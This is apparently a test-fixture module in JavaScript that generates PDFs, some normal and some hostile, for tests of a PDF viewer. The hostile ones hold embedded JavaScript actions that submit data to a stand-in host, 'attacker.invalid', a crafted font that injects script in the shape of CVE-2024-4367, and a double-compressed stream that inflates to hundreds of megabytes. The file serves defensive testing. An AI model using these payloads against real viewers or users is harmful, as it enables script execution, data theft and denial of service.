// Small PDFs made in the tests (never committed): a few pages of text in a standard font, or the hostile
// kinds a page must survive — JavaScript actions, a crafted font, a thousand pages, a stream that inflates to
// hundreds of megabytes, a page with no text at all.
import { once } from 'node:events';
import { createDeflate, deflateSync } from 'node:zlib';

/** A PDF from its objects (each a Buffer or string body, numbered from 1); object 1 is the catalog. */
export function assemble(objects) {
  const parts = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets = [];
  let at = parts[0].length;
  objects.forEach((body, i) => {
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
    offsets.push(at);
    parts.push(chunk);
    at += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** A stream object: its dictionary entries and its (already encoded) bytes. */
export function stream(dict, bytes) {
  const data = Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1');
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
}

/** Lines of ASCII text as a page content stream in Helvetica. */
export function textContent(lines) {
  const esc = (s) => s.replace(/[\\()]/g, (c) => `\\${c}`);
  return `BT /F1 12 Tf 72 760 Td 14 TL ${lines.map((l) => `(${esc(l)}) '`).join(' ')} ET`;
}

/**
 * A document of `pages` (each an array of text lines, or { content } for raw content bytes), with
 * `catalogExtra` added to the catalog and `font` as the font dictionary.
 */
export function makePdf(pages, { catalogExtra = '', font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', extra = [] } = {}) {
  const n = pages.length;
  // 1 catalog, 2 pages, 3 font, then page i at 4 + 2i and its content at 5 + 2i, then extra objects
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    `<< /Type /Pages /Count ${n} /Kids [${pages.map((_, i) => `${4 + 2 * i} 0 R`).join(' ')}] >>`,
    font,
  ];
  pages.forEach((p, i) => {
    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + 2 * i} 0 R >>`);
    objects.push(Array.isArray(p) ? stream('', textContent(p)) : p.content);
  });
  objects.push(...extra);
  return assemble(objects);
}

/** Ordinary text: enough characters that it is a text layer. */
export const SAMPLE = ['Budget 2024: income 100.00, spending 90.00, balance 10.00.', 'This PDF is used by the page tests.'];

/** JavaScript everywhere a PDF can hold it: the open action, the names tree, a page's additional actions. */
export function withJavaScript() {
  const js = "app.alert('pwned'); this.submitForm('http://attacker.invalid/'); this.getURL('http://attacker.invalid/x');";
  return makePdf([SAMPLE], {
    catalogExtra: `/OpenAction << /S /JavaScript /JS (${js.replace(/[()]/g, '\\$&')}) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js.replace(/[()]/g, '\\$&')}) >>] >> >> /AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`,
  });
}

/**
 * The CVE-2024-4367 shape: a font whose FontMatrix carries script text where a number belongs, which a
 * vulnerable viewer pasted into generated code when drawing the glyphs.
 */
export function withCraftedFont() {
  const font = "<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 32 /LastChar 126 /Widths [] /FontMatrix [1 2 3 4 5 (0\\); window.__pwned = 'font'; globalThis.__pwned = 'font'; \\(0)] /Encoding /WinAnsiEncoding >>";
  return makePdf([SAMPLE], { font });
}

/** `count` pages (one shared content stream, so the file stays small). */
export function manyPages(count) {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, i) => `${5 + i} 0 R`).join(' ')}] >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    stream('', textContent(SAMPLE)),
  ];
  for (let i = 0; i < count; i += 1) {
    objects.push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>');
  }
  return assemble(objects);
}

/** `times` copies of `chunk`, deflated as one stream without holding them all. */
async function deflateRepeated(chunk, times) {
  const deflate = createDeflate({ level: 9 });
  const out = [];
  deflate.on('data', (b) => out.push(b));
  for (let i = 0; i < times; i += 1) if (!deflate.write(chunk)) await once(deflate, 'drain');
  deflate.end();
  await once(deflate, 'end');
  return Buffer.concat(out);
}

/** A content stream that inflates to `mb` megabytes (twice deflated, so the file is a few KB). */
export async function inflatingStream(mb = 400) {
  const once = await deflateRepeated(Buffer.alloc(1024 * 1024, 0x20), mb); // spaces: harmless syntax, a lot of it
  const twice = deflateSync(once, { level: 9 });
  return makePdf([{ content: stream('/Filter [/FlateDecode /FlateDecode]', twice) }, SAMPLE]);
}

/** A page with drawing only: no text layer (as a scanned page, without the image). */
export function withoutText() {
  const drawing = '0.5 g 72 72 468 648 re f 0 G 2 w 100 100 m 500 700 l S';
  return makePdf([{ content: stream('', drawing) }, { content: stream('', drawing) }]);
}
